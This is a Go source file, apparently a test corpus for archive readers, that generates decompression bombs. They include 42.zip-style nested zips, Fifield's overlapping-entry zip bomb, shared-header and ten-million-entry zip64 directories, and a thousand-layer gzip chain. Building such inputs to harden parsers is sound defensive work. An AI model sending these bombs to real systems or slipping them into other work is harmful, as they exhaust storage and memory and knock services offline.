package hostile

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
)

func bombs() []Case {
	return []Case{
		lazy("nested-same.zip", same),
		{"nested-distinct.zip", func(w io.Writer) error {
			_, err := w.Write(distinct(4, "d"))
			return err
		}},
		lazy("overlap.zip", overlap),
		lazy("overlap-same.zip", overlapSame),
		{"one-layer.zip", oneLayer},
		{"chain.gz", func(w io.Writer) error {
			b := []byte("the end of the chain")
			for range 1000 {
				b = gz("", b)
			}
			_, err := w.Write(b)
			return err
		}},
		{"chain-of-bombs.gz", func(w io.Writer) error {
			var b bytes.Buffer
			z, _ := gzip.NewWriterLevel(&b, 9)
			if err := repeat(z, []byte{0}, 1<<30); err != nil {
				return err
			}
			if err := z.Close(); err != nil {
				return err
			}
			_, err := w.Write(gz("", gz("", b.Bytes())))
			return err
		}},
		{"ten-million.zip", tenMillion},
	}
}

// same is a zip of sixteen equal zips on each of five levels, as 42.zip is.
func same() []byte {
	b := zipOf(deflated("0.dll", make([]byte, 256<<20)))
	for level := range 5 {
		var entries []zipEntry
		for i := range 16 {
			entries = append(entries, deflated(fmt.Sprintf("%d-%d.zip", level, i), b))
		}
		b = zipOf(entries...)
	}
	return b
}

// distinct is a zip of eight zips on each level, no two files in it the same, so
// that nothing is saved by reading equal bytes once.
func distinct(level int, tag string) []byte {
	if level == 0 {
		// A stored block with the tag, and the same zeros behind it every time.
		l := binary.LittleEndian
		data := l.AppendUint16([]byte{0}, uint16(len(tag)))
		data = append(l.AppendUint16(data, ^uint16(len(tag))), tag...)
		sum := crc32.Update(crc32.ChecksumIEEE([]byte(tag)), crc32.IEEETable, zeros)
		return zipOf(zipEntry{name: "zeros.bin", data: append(data, packedZeros...), method: 8, crc: sum, size: uint32(len(tag) + len(zeros))})
	}
	var entries []zipEntry
	for i := range 8 {
		t := fmt.Sprintf("%s.%d", tag, i)
		entries = append(entries, deflated(t+".zip", distinct(level-1, t)))
	}
	return zipOf(entries...)
}

var (
	zeros       = make([]byte, 1<<20)
	packedZeros = deflate(zeros)
)

// overlap is the construction of Fifield, "A better zip bomb" (WOOT 2019), with
// quoted headers: each file's data is a stored block that quotes the next local
// header, and all of them end in one kernel.
func overlap() []byte {
	const files = 60
	plain := make([]byte, 4<<20)
	kernel := deflate(plain)
	l := binary.LittleEndian
	header := func(name string, packed, size, crc uint32) []byte {
		h := []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x21\x58")
		h = l.AppendUint32(h, crc)
		h = l.AppendUint32(h, packed)
		h = l.AppendUint32(h, size)
		h = l.AppendUint16(h, uint16(len(name)))
		return append(append(h, 0, 0), name...)
	}
	// From the last file to the first: body is what stands from its data on.
	body, content := kernel, plain
	var blocks [][]byte // local headers, last first
	var entries []zipEntry
	for i := files - 1; ; i-- {
		name := fmt.Sprintf("%02d", i)
		crc := crc32.ChecksumIEEE(content)
		h := header(name, uint32(len(body)), uint32(len(content)), crc)
		entries = append(entries, zipEntry{name: name, crc: crc, packed: int64(len(body)), size: uint32(len(content)), method: 8, noLocal: true})
		blocks = append(blocks, h)
		if i == 0 {
			body = append(bytes.Clone(h), body...)
			break
		}
		quote := l.AppendUint16([]byte{0}, uint16(len(h)))
		quote = l.AppendUint16(quote, ^uint16(len(h)))
		body = append(append(quote, h...), body...)
		content = append(bytes.Clone(h), content...)
	}
	// Offsets: the first header stands at 0, each next one five bytes of a block
	// header behind its predecessor's end.
	at := int64(0)
	for i := range files {
		e := &entries[files-1-i]
		e.at = at
		if at == 0 {
			e.at = -1
		}
		at += int64(len(blocks[files-1-i])) + 5
	}
	for i, j := 0, len(entries)-1; i < j; i, j = i+1, j-1 {
		entries[i], entries[j] = entries[j], entries[i]
	}
	dir := rawZip(zipEnd{shift: int64(len(body))}, entries...)
	return append(body, dir...)
}

// overlapSame has a hundred entries of the directory that share one local header.
func overlapSame() []byte {
	e := deflated("x", make([]byte, 1<<20))
	entries := []zipEntry{e}
	for range 99 {
		twin := e
		twin.noLocal = true
		entries = append(entries, twin)
	}
	b := zipOf(entries...)
	l := binary.LittleEndian
	// The twins point at the first header.
	for i := bytes.Index(b, []byte("PK\x01\x02")); i >= 0 && string(b[i:i+4]) == "PK\x01\x02"; i += 46 + 1 {
		l.PutUint32(b[i+42:], 0)
	}
	return b
}

// oneLayer is a zip of one entry of 1 GB that packs as far as deflate goes, 1:1030.
func oneLayer(w io.Writer) error {
	const size = 1_000_000_000
	var packed bytes.Buffer
	f, _ := flate.NewWriter(&packed, flate.BestCompression)
	sum := crc32.NewIEEE()
	if err := repeat(io.MultiWriter(f, sum), []byte{0}, size); err != nil {
		return err
	}
	f.Close()
	_, err := w.Write(zipOf(zipEntry{name: "zeros", data: packed.Bytes(), method: 8, size: size, crc: sum.Sum32()}))
	return err
}

func gz(name string, b []byte) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	z.Name = name
	z.Write(b)
	z.Close()
	return out.Bytes()
}

// tenMillion is a zip64 directory of ten million empty entries that share one
// local header, 530 MB of directory.
func tenMillion(w io.Writer) error {
	const n = 10_000_000
	l := binary.LittleEndian
	local := append([]byte("PK\x03\x04\x14\x00"), make([]byte, 20)...)
	local = append(l.AppendUint16(local, 7), 0, 0)
	local = append(local, "0000000"...)
	if _, err := w.Write(local); err != nil {
		return err
	}
	entry := append([]byte("PK\x01\x02\x14\x00\x14\x00"), make([]byte, 20)...)
	entry = append(l.AppendUint16(entry, 7), make([]byte, 16)...)
	entry = append(entry, "0000000"...)
	const batch = 1000
	block := bytes.Repeat(entry, batch)
	for i := 0; i < n; i += batch {
		for j := range batch {
			k := i + j
			name := block[j*len(entry)+46:]
			for d := 6; d >= 0; d-- {
				name[d] = byte('0' + k%10)
				k /= 10
			}
		}
		if _, err := w.Write(block); err != nil {
			return err
		}
	}
	dirAt, dirSize := uint64(len(local)), uint64(n*len(entry))
	end := []byte("PK\x06\x06")
	end = l.AppendUint64(end, 44)
	end = append(end, 45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0)
	end = l.AppendUint64(end, n)
	end = l.AppendUint64(end, n)
	end = l.AppendUint64(end, dirSize)
	end = l.AppendUint64(end, dirAt)
	end = append(end, "PK\x06\x07\x00\x00\x00\x00"...)
	end = l.AppendUint64(end, dirAt+dirSize)
	end = append(end, 1, 0, 0, 0)
	end = append(end, "PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00"...)
	_, err := w.Write(end)
	return err
}
